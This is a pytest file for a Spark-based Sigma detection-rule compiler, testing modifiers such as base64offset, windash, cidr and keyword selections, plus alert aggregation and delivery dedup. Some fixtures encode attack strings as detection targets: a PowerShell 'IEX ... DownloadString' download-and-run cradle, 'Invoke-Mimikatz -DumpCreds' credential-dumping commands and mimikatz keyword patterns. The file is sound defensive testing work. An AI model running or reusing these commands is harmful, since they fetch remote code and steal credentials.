"""Sigma compiler tests + A4/A5 context aggregation and diff."""

from __future__ import annotations

from pyspark.sql import functions as F

from matano_spark.detections.sigma import compile_sigma, sigma_filter
from matano_spark.operators.alerts import aggregate_context, context_diff


def _events(spark):
    return spark.createDataFrame(
        [
            (1, ("authentication", "failure"), ("10.0.0.1", 22), "Failed password for root"),
            (2, ("authentication", "success"), ("10.0.0.2", 22), "Accepted publickey"),
            (3, ("network", "failure"), ("10.0.0.3", 443), "TLS handshake error"),
            (4, ("authentication", "failure"), ("172.16.0.9", 3389), "Failed password for admin"),
        ],
        "id long, event struct<category:string, outcome:string>, "
        "source struct<ip:string, port:long>, message string",
    )


def test_sigma_basic_and_not(spark):
    rule = {
        "title": "failed auth not internal",
        "detection": {
            "selection": {
                "event.category": "authentication",
                "event.outcome": "failure",
            },
            "internal": {"source.ip|startswith": "10."},
            "condition": "selection and not internal",
        },
    }
    out = sigma_filter(_events(spark), rule)
    assert [r.id for r in out.collect()] == [4]


def test_sigma_modifiers_and_lists(spark):
    rule = {
        "detection": {
            "sel": {
                "message|contains": ["password", "publickey"],
                "source.port|lte": 22,
            },
            "condition": "sel",
        }
    }
    out = sigma_filter(_events(spark), rule)
    assert sorted(r.id for r in out.collect()) == [1, 2]


def test_sigma_one_of_them_and_regex(spark):
    rule = {
        "detection": {
            "a": {"message|re": "^TLS .*error$"},
            "b": {"source.ip": "172.16.0.9"},
            "condition": "1 of them",
        }
    }
    out = sigma_filter(_events(spark), rule)
    assert sorted(r.id for r in out.collect()) == [3, 4]


def test_sigma_missing_field_is_false(spark):
    rule = {
        "detection": {
            "sel": {"does.not.exist": "x"},
            "neg": {"event.category": "authentication"},
            "condition": "sel or neg",
        }
    }
    out = sigma_filter(_events(spark), rule)
    assert sorted(r.id for r in out.collect()) == [1, 2, 4]


def test_context_aggregation_and_diff(spark):
    m1 = spark.createDataFrame(
        [
            ("a1", "10.0.0.1", "root"),
            ("a1", "10.0.0.1", "admin"),
            ("a2", "10.0.0.9", "bob"),
        ],
        "alert_id string, src_ip string, user string",
    )
    ctx1 = aggregate_context(m1, ["alert_id"], ["src_ip", "user"])
    rows = {r.alert_id: r.asDict(recursive=True) for r in ctx1.collect()}
    assert rows["a1"]["context"] == {
        "src_ip": ["10.0.0.1"],
        "user": ["admin", "root"],
    }
    assert rows["a1"]["match_count"] == 2

    # generation 2: a1 gains a user, a2 unchanged, a3 appears
    m2 = spark.createDataFrame(
        [
            ("a1", "10.0.0.1", "root"),
            ("a1", "10.0.0.1", "admin"),
            ("a1", "10.0.0.2", "admin"),
            ("a2", "10.0.0.9", "bob"),
            ("a3", "10.0.0.7", "eve"),
        ],
        "alert_id string, src_ip string, user string",
    )
    ctx2 = aggregate_context(m2, ["alert_id"], ["src_ip", "user"])
    diff = {
        r.alert_id: r.asDict(recursive=True)["changed"]
        for r in context_diff(ctx1, ctx2, ["alert_id"]).collect()
    }
    assert set(diff) == {"a1", "a3"}  # a2 unchanged → no CDC row
    assert diff["a1"]["src_ip"] == ["10.0.0.1", "10.0.0.2"]
    assert diff["a3"]["user"] == ["eve"]


def test_alert_delivery_ledger(spark, tmp_path):
    from matano_spark.streaming.delivery import DeliveryLedger, deliver_batch

    alerts = spark.createDataFrame(
        [
            ("a1", "bf", "1.2.3.4", 5, True, "2024-05-01 12:00:00", "2024-05-01 12:12:00"),
            ("a2", "bf", "5.6.7.8", 2, False, "2024-05-01 12:00:00", None),
        ],
        "alert_id string, rule_name string, dedupe string, match_count long, "
        "activated boolean, first_matched_at string, created_at string",
    ).withColumn("first_matched_at", F.col("first_matched_at").cast("timestamp")) \
     .withColumn("created_at", F.col("created_at").cast("timestamp"))

    sent: list[tuple[str, dict]] = []
    ledger = DeliveryLedger(spark, str(tmp_path / "ledger"))
    n = deliver_batch(alerts, ["slack", "email"], ledger, lambda d, p: sent.append((d, p)))
    # only the ACTIVATED alert delivers, once per destination
    assert n == 2
    assert {d for d, _ in sent} == {"slack", "email"}
    assert all(p["alert_id"] == "a1" for _, p in sent)

    # second batch with the same alert → deduped, zero deliveries
    sent.clear()
    n2 = deliver_batch(alerts, ["slack", "email"], ledger, lambda d, p: sent.append((d, p)))
    assert n2 == 0 and sent == []


def test_map_value_functions(spark):
    from matano_spark.transform import Assign, Fn, P, compile_pipeline

    df = spark.createDataFrame(
        [("k1=1 k2=2",)], ["kv"]
    )
    out = compile_pipeline(
        [
            Assign("m", Fn("parse_key_value", P("kv"))),
            Assign("m", Fn("map_values", P("m"), fn=lambda v: F.concat(v, F.lit("0")))),
            Assign("ks", Fn("object_keys", P("m"))),
            Assign("vs", Fn("object_values", P("m"))),
        ]
    )(df)
    r = out.collect()[0].asDict(recursive=True)
    assert r["m"] == {"k1": "10", "k2": "20"}
    assert sorted(r["ks"]) == ["k1", "k2"]
    assert sorted(r["vs"]) == ["10", "20"]


def test_sigma_case_insensitive_and_wildcards(spark):
    # Sigma spec: string equality/contains match case-insensitively;
    # * and ? wildcards in plain values
    rule = {
        "title": "wildcard + case",
        "detection": {
            "selection": {"message": "failed password*"},
            "condition": "selection",
        },
    }
    out = sigma_filter(_events(spark), rule)
    assert sorted(r.id for r in out.collect()) == [1, 4]

    rule2 = {
        "title": "ci contains",
        "detection": {
            "selection": {"message|contains": "TLS HANDSHAKE"},
            "condition": "selection",
        },
    }
    assert [r.id for r in sigma_filter(_events(spark), rule2).collect()] == [3]

    rule3 = {
        "title": "single-char wildcard",
        "detection": {
            "selection": {"message": "Failed password for roo?"},
            "condition": "selection",
        },
    }
    assert [r.id for r in sigma_filter(_events(spark), rule3).collect()] == [1]


def test_sigma_contains_all_modifier(spark):
    rule = {
        "title": "all-of list",
        "detection": {
            "selection": {"message|contains|all": ["failed", "root"]},
            "condition": "selection",
        },
    }
    assert [r.id for r in sigma_filter(_events(spark), rule).collect()] == [1]


def test_sigma_cidr_modifier(spark):
    rule = {
        "title": "rfc1918 172.16/12 sources",
        "detection": {
            "selection": {"source.ip|cidr": "172.16.0.0/12"},
            "condition": "selection",
        },
    }
    assert [r.id for r in sigma_filter(_events(spark), rule).collect()] == [4]


def test_sigma_group_of_patterns(spark):
    rule = {
        "title": "selection groups",
        "detection": {
            "sel_auth": {"event.category": "authentication"},
            "sel_fail": {"event.outcome": "failure"},
            "filter_int": {"source.ip|startswith": "10."},
            "condition": "all of sel_* and not filter_int",
        },
    }
    assert [r.id for r in sigma_filter(_events(spark), rule).collect()] == [4]

    rule2 = {
        "title": "1 of group",
        "detection": {
            "sel_net": {"event.category": "network"},
            "sel_rdp": {"source.port": 3389},
            "condition": "1 of sel_*",
        },
    }
    assert sorted(r.id for r in sigma_filter(_events(spark), rule2).collect()) == [3, 4]


def test_sigma_list_of_maps_selection(spark):
    # Sigma list-of-maps = OR of the maps; must also participate in
    # "of them" conditions instead of being silently dropped
    rule = {
        "title": "list selection",
        "detection": {
            "selection": [
                {"source.port": 3389},
                {"event.category": "network"},
            ],
            "condition": "selection",
        },
    }
    assert sorted(r.id for r in sigma_filter(_events(spark), rule).collect()) == [3, 4]

    import pytest as _pytest

    # keyword lists are full-text selections now (see
    # test_sigma_keyword_selection); a non-scalar non-map form must
    # still fail loudly rather than silently skipping
    bad = {
        "title": "nested list unsupported",
        "detection": {"selection": [["x"]], "condition": "selection"},
    }
    with _pytest.raises(ValueError, match="unsupported sigma selection"):
        sigma_filter(_events(spark), bad)


def test_sigma_base64_modifier(spark):
    import base64

    enc = base64.b64encode(b"Failed password").decode()
    df = _events(spark).withColumn(
        "message_b64",
        F.concat(F.lit("prefix:"), F.base64(F.col("message").cast("binary"))),
    )
    rule = {
        "title": "b64-embedded credential failure",
        "detection": {
            "selection": {"message_b64|base64|contains": "Failed password"},
            "condition": "selection",
        },
    }
    assert [r.id for r in sigma_filter(df, rule).collect()] == [1, 4]
    # plain |base64 is exact equality on the encoded literal
    df2 = df.withColumn("exact_b64", F.lit(enc))
    rule2 = {
        "title": "exact b64",
        "detection": {
            "selection": {"exact_b64|base64": "Failed password"},
            "condition": "selection",
        },
    }
    assert sigma_filter(df2, rule2).count() == 4


def test_sigma_windash_modifier(spark):
    df = spark.createDataFrame(
        [
            (1, "cmd.exe /c whoami -all"),
            (2, "cmd.exe -c whoami /all"),
            (3, "powershell -encodedcommand xyz"),
        ],
        "id long, message string",
    )
    rule = {
        "title": "dash-variant command flag",
        "detection": {
            "selection": {"message|windash|contains": "-c whoami"},
            "condition": "selection",
        },
    }
    assert sorted(r.id for r in sigma_filter(df, rule).collect()) == [1, 2]


def test_sigma_windash_per_occurrence_and_unicode_dashes(spark):
    """ADVICE regression: multi-flag values must match MIXED
    obfuscation ('-foo /bar' for value '-foo -bar'), and the modern
    spec's en/em-dash variants must match too."""
    df = spark.createDataFrame(
        [
            (1, "x -foo /bar y"),   # mixed per-occurrence substitution
            (2, "x /foo -bar y"),
            (3, "x –foo —bar y"),  # en dash + em dash
            (4, "x -foo .bar y"),   # '.' is not a dash variant
        ],
        "id long, message string",
    )
    rule = {
        "title": "mixed dash obfuscation",
        "detection": {
            "selection": {"message|windash|contains": "-foo -bar"},
            "condition": "selection",
        },
    }
    assert sorted(r.id for r in sigma_filter(df, rule).collect()) == [1, 2, 3]


def test_sigma_exists_and_fieldref(spark):
    df = spark.createDataFrame(
        [(1, "a", "a", None), (2, "a", "b", "x"), (3, None, "c", "y")],
        "id long, u string, v string, extra string",
    )
    got = [
        r.id
        for r in df.filter(
            compile_sigma(
                df,
                {
                    "detection": {
                        "sel": {"u|fieldref": "v"},
                        "condition": "sel",
                    }
                },
            )
        ).collect()
    ]
    assert got == [1]
    got = [
        r.id
        for r in df.filter(
            compile_sigma(
                df,
                {
                    "detection": {
                        "present": {"extra|exists": True},
                        "absent": {"u|exists": False},
                        "condition": "present and not absent",
                    }
                },
            )
        ).collect()
    ]
    assert got == [2]


def test_sigma_cased_modifier(spark):
    df = spark.createDataFrame(
        [(1, "PowerShell"), (2, "powershell"), (3, "POWERSHELL")],
        "id long, proc string",
    )

    def ids(sel):
        rule = {"detection": {"sel": sel, "condition": "sel"}}
        return sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())

    assert ids({"proc|cased": "PowerShell"}) == [1]
    assert ids({"proc": "PowerShell"}) == [1, 2, 3]  # default case-fold
    assert ids({"proc|contains|cased": "werS"}) == [1]
    assert ids({"proc|startswith|cased": "Power"}) == [1]
    assert ids({"proc|cased": "Power*"}) == [1]  # cased wildcard


def test_sigma_base64offset_matches_any_alignment(spark):
    """The classic encoded-command shape: the needle must be found in
    a base64 stream regardless of its byte offset mod 3."""
    import base64

    needle = "Invoke-Mimikatz"
    rows = [
        (i, base64.b64encode((prefix + needle + " -DumpCreds").encode()).decode())
        for i, prefix in enumerate(["", "x", "xy", "xyz"])
    ]
    rows.append((99, base64.b64encode(b"benign command").decode()))
    df = spark.createDataFrame(rows, "id long, cmd string")
    rule = {
        "detection": {
            "sel": {"cmd|base64offset|contains": needle},
            "condition": "sel",
        }
    }
    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
    assert got == [0, 1, 2, 3]


def test_sigma_utf16le_base64offset(spark):
    """PowerShell -EncodedCommand is base64(utf16le(script)) — the
    utf16le|base64offset|contains chain must find a needle in it."""
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
    enc = base64.b64encode(script.encode("utf-16le")).decode()
    df = spark.createDataFrame(
        [(1, enc), (2, base64.b64encode(b"hello world").decode())],
        "id long, cmd string",
    )
    rule = {
        "detection": {
            "sel": {"cmd|utf16le|base64offset|contains": "DownloadString"},
            "condition": "sel",
        }
    }
    got = [r.id for r in df.filter(compile_sigma(df, rule)).collect()]
    assert got == [1]


def test_sigma_keyword_selection(spark):
    df = spark.createDataFrame(
        [
            (1, "Failed password for root", "sshd"),
            (2, "Accepted publickey", "sshd"),
            (3, "session opened", "MIMIKATZ.exe"),
        ],
        "id long, message string, proc string",
    )
    rule = {
        "detection": {
            "keywords": ["failed password", "mimikatz*"],
            "condition": "keywords",
        }
    }
    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
    assert got == [1, 3]  # matches across DIFFERENT columns


def test_sigma_cidr_ipv6(spark):
    df = spark.createDataFrame(
        [
            (1, "2001:db8::1"),
            (2, "2001:db8:0:0:0:0:0:ffff"),
            (3, "2001:db9::1"),  # outside /32
            (4, "10.0.0.1"),  # v4 never matches a v6 network
            (5, "fe80::1"),
        ],
        "id long, ip string",
    )
    rule = {
        "detection": {
            "sel": {"ip|cidr": "2001:db8::/32"},
            "condition": "sel",
        }
    }
    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
    assert got == [1, 2]
    # non-multiple-of-32 prefix exercises the partial-word mask
    rule = {
        "detection": {
            "sel": {"ip|cidr": "fe80::/10"},
            "condition": "sel",
        }
    }
    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
    assert got == [5]
